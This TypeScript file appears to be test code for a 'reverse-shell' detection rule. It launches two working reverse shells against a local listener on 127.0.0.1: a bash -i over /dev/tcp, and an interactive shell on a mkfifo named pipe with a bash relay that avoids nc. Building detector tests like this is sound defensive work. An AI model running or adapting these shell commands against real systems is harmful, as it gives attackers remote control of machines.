import { inDirectory, runToEnd, withListener } from "./attack.ts";
import type { Attack } from "./attack.ts";

const SHELL = "/bin/bash";

/**
 * `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`: the shell at the other end of a connection. The listener sends one command,
 * which writes the shell's pid back; with `then`, what it is to do besides.
 */
export const reverseShell = (then = "true"): Attack => ({
  rule: "reverse-shell",
  name: "bash over /dev/tcp",
  run: () =>
    withListener(`echo pid=$$; ${then}; exit\n`, async ({ port, received }) => {
      // A shell that starts the interactive one as its child, as a person at a terminal would.
      const command = `${SHELL} --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1; exit $?`;
      const { signal, status, stderr } = await runToEnd(SHELL, ["--norc", "-c", command]);
      const pid = Number(/pid=(\d+)/.exec(received())?.[1] ?? NaN);
      return {
        ...{ rule: "reverse-shell", binary: SHELL, signal, stderr },
        pid: Number.isNaN(pid) ? null : pid,
        succeeded: status === 0 && received().includes("pid="),
      };
    }),
});

/**
 * `mkfifo f; sh -i <f 2>&1 | RELAY >f`: the shell reads a named pipe. The relay is a bash of three lines, so that the attack
 * needs no nc; where there is one the rule sees that too.
 */
export const fifoShell: Attack = {
  rule: "reverse-shell",
  name: "interactive shell on a named pipe",
  run: () =>
    inDirectory((dir) =>
      withListener("exit\n", async ({ port }) => {
        const relay = `${SHELL} --norc -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3 & cat >&3; wait'`;
        const command = `cd ${dir} && mkfifo f && { sh -i <f 2>&1 & echo $! >&9; } 9>pid | ${relay} >f; cat pid`;
        const { signal, status, stdout, stderr } = await runToEnd(SHELL, ["--norc", "-c", command]);
        const pid = Number(stdout.trim() || NaN);
        return {
          ...{ rule: "reverse-shell", binary: "/bin/sh", signal, stderr },
          pid: Number.isNaN(pid) ? null : pid,
          succeeded: status === 0,
        };
      }),
    ),
};
